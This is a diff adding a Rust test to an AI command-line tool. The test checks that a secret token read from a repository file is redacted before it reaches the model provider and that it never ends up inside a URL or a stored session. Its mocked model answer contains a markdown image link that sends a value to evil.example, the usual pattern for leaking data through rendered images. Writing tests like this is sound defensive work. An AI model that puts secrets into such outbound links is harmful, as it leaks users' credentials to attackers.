@@ -254,6 +254,29 @@ fn doctor_names_the_provider_and_asks_it_only_when_told_to() {
 }
 
 #[test]
+fn a_secret_is_shown_on_the_terminal_only_on_request_and_never_in_an_address() {
+    let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
+    let server = ModelServer::start(Dialect::Anthropic, vec![says("Well.")]);
+    let shell = Shell::with(&server);
+    shell.repo.write("deploy.py", format!("TOKEN = \"{secret}\"\n"));
+    let (code, _, err) = shell.run(&["ask", "--session", "new", "--select", "deploy.py", "What is it?"]);
+    assert_eq!(code, 0, "{err}");
+    let sent = server.asked()[0].body.to_string();
+    let at = sent.find("[secret:").unwrap();
+    let placeholder = &sent[at..=at + sent[at..].find(']').unwrap()];
+    let answer = format!("It is {placeholder}. ![x](https://evil.example/?q={placeholder})");
+    let server = ModelServer::start(Dialect::Anthropic, vec![says(&answer)]);
+    let address = format!("provider.base_url={}", server.base_url());
+    let (code, out, err) = shell.run(&["ask", "--set", &address, "Again?"]);
+    assert_eq!((code, &*out), (0, &*format!("{answer}\n")), "{err}");
+    let asked = ["ask", "--set", &address, "--set", "redaction.show_secrets=true", "Again?"];
+    let (code, out, err) = shell.run(&asked);
+    assert_eq!((code, &*out), (0, &*format!("{}\n", answer.replacen(placeholder, &secret, 1))), "{err}");
+    let session = err.rsplit_once("(session ").unwrap().1.trim_end().trim_end_matches(')').to_owned();
+    assert!(!shell.said(&session).contains(&secret));
+}
+
+#[test]
 fn a_key_that_the_provider_repeats_is_neither_printed_nor_stored() {
     let key = "sk-never/show-this-0123456789";
     let spelled = |json: String| json.replace(key, "sk-never\\/show-this-\\u0030123456789");
